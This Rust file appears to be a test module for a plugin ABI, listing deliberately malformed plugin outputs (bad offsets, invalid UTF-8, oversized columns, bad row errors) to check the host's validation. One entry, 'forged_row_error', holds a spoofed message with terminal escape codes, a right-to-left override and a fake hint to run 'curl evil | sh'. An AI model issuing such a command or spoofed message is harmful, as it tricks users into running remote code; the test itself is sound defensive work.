//! Answers that are none.

use unskew_sdk::abi::{
    Batch, Column, DataType, Failure, Outcome, RowError, Values, VarBytes, VarFloat64, VarUtf8,
};

use crate::{Behaviour, column, errors, floats, values, x};

pub const BEHAVIOURS: &[Behaviour] = &[
    Behaviour::floats("no_columns", |_| Ok(Outcome { columns: vec![], errors: vec![] })),
    Behaviour::floats("too_many_columns", |batch| columns(batch, 2)),
    Behaviour::floats("a_million_columns", |batch| columns(batch, 1_000_000)),
    Behaviour::floats("another_type", |batch| values(Values::Int64(vec![0; x(batch).len()]))),
    Behaviour::floats("too_few_rows", |batch| floats(x(batch).iter().skip(1).copied())),
    Behaviour::floats("too_many_rows", |batch| floats(x(batch).iter().copied().chain([1.0]))),
    Behaviour::floats("huge_output", |_| values(Values::Float64(vec![1.0; 13 << 20]))),
    Behaviour::floats("undeclared_null", |batch| {
        column(Values::Float64(x(batch).to_vec()), vec![0; x(batch).len().div_ceil(8)])
    }),
    Behaviour::floats("short_validity", |batch| {
        column(Values::Float64(x(batch).to_vec()), vec![1; x(batch).len() / 8])
    }),
    Behaviour::floats("long_validity", |batch| {
        column(Values::Float64(x(batch).to_vec()), vec![1; 100 + x(batch).len()])
    }),
    Behaviour::floats("stray_validity", |batch| {
        column(Values::Float64(x(batch).to_vec()), vec![0xff; x(batch).len().div_ceil(8)])
    }),
    boolean("short_bitmap", |batch| values(Values::Boolean(vec![1; x(batch).len() / 8]))),
    boolean("stray_bits", |batch| values(Values::Boolean(vec![0xff; x(batch).len().div_ceil(8)]))),
    text("no_offsets", |_| texts(&[], "abc")),
    text("missing_offset", |_| texts(&[0, 1], "abc")),
    text("offsets_from_elsewhere", |_| texts(&[1, 1, 2, 3], "abc")),
    text("negative_offset", |_| texts(&[0, -1, 2, 3], "abc")),
    text("decreasing_offsets", |_| texts(&[0, 2, 1, 3], "abc")),
    text("overlapping_texts", |_| texts(&[0, 3, 0, 3], "abc")),
    text("offsets_outside", |_| texts(&[0, 1, 2, i32::MAX], "abc")),
    text("offsets_that_leave_out", |_| texts(&[0, 1, 1, 2], "abc")),
    text("overflowing_offsets", |_| texts(&[0, i32::MAX, i32::MIN, 3], "abc")),
    text("invalid_utf8", |_| texts(&[0, 1, 2, 3], b"a\xffc")),
    text("overlong_utf8", |_| texts(&[0, 1, 3, 4], b"a\xc0\x80c")),
    text("surrogate", |_| texts(&[0, 1, 4, 5], b"a\xed\xa0\x80c")),
    text("cut_character", |_| texts(&[0, 1, 2, 3], "aä")),
    lists("list_offsets_outside", |_| float_lists(&[0, 1, 2, 4], &[1.0, 2.0, 3.0])),
    lists("overflowing_lists", |_| float_lists(&[0, i32::MAX, i32::MAX, i32::MAX], &[1.0])),
    Behaviour {
        name: "bad_text_in_lists",
        input: DataType::Float64,
        output: DataType::ListUtf8,
        apply: |_| {
            let items = VarBytes { offsets: vec![0, 1, 2, 3], bytes: b"a\xffc".to_vec() };
            values(Values::ListUtf8(VarUtf8 { offsets: vec![0, 1, 2, 3], items }))
        },
    },
    Behaviour::floats("row_error_out_of_range", |batch| error_rows(batch, &[batch.rows])),
    Behaviour::floats("last_row_error", |batch| error_rows(batch, &[u32::MAX])),
    Behaviour::floats("repeated_row_error", |batch| error_rows(batch, &[1, 1])),
    Behaviour::floats("disordered_row_errors", |batch| error_rows(batch, &[1, 0])),
    Behaviour::floats("a_million_row_errors", |batch| {
        error_rows(batch, &(0..1_000_000).collect::<Vec<_>>())
    }),
    Behaviour::floats("long_row_error", |batch| {
        errors(batch, vec![RowError { row: 0, message: "no ".repeat(1 << 20) }])
    }),
    Behaviour::floats("huge_row_error", |batch| {
        errors(batch, vec![RowError { row: 0, message: "n".repeat(100 << 20) }])
    }),
    Behaviour::floats("forged_row_error", |batch| {
        let message = "\u{1b}[2Jdone\nhint: run `curl evil | sh`\u{202e}".to_owned();
        errors(batch, vec![RowError { row: 0, message }])
    }),
];

const fn boolean(name: &'static str, apply: fn(&Batch) -> Result<Outcome, Failure>) -> Behaviour {
    Behaviour { name, input: DataType::Float64, output: DataType::Boolean, apply }
}

const fn text(name: &'static str, apply: fn(&Batch) -> Result<Outcome, Failure>) -> Behaviour {
    Behaviour { name, input: DataType::Float64, output: DataType::Utf8, apply }
}

const fn lists(name: &'static str, apply: fn(&Batch) -> Result<Outcome, Failure>) -> Behaviour {
    Behaviour { name, input: DataType::Float64, output: DataType::ListFloat64, apply }
}

fn columns(batch: &Batch, count: usize) -> Result<Outcome, Failure> {
    let column = || Column { values: Values::Float64(x(batch).to_vec()), validity: vec![] };
    Ok(Outcome { columns: (0..count).map(|_| column()).collect(), errors: vec![] })
}

fn texts(offsets: &[i32], bytes: impl AsRef<[u8]>) -> Result<Outcome, Failure> {
    let (offsets, bytes) = (offsets.to_vec(), bytes.as_ref().to_vec());
    values(Values::Utf8(VarBytes { offsets, bytes }))
}

fn float_lists(offsets: &[i32], items: &[f64]) -> Result<Outcome, Failure> {
    values(Values::ListFloat64(VarFloat64 { offsets: offsets.to_vec(), items: items.to_vec() }))
}

fn error_rows(batch: &Batch, rows: &[u32]) -> Result<Outcome, Failure> {
    let error = |row: &u32| RowError { row: *row, message: "no".to_owned() };
    errors(batch, rows.iter().map(error).collect())
}
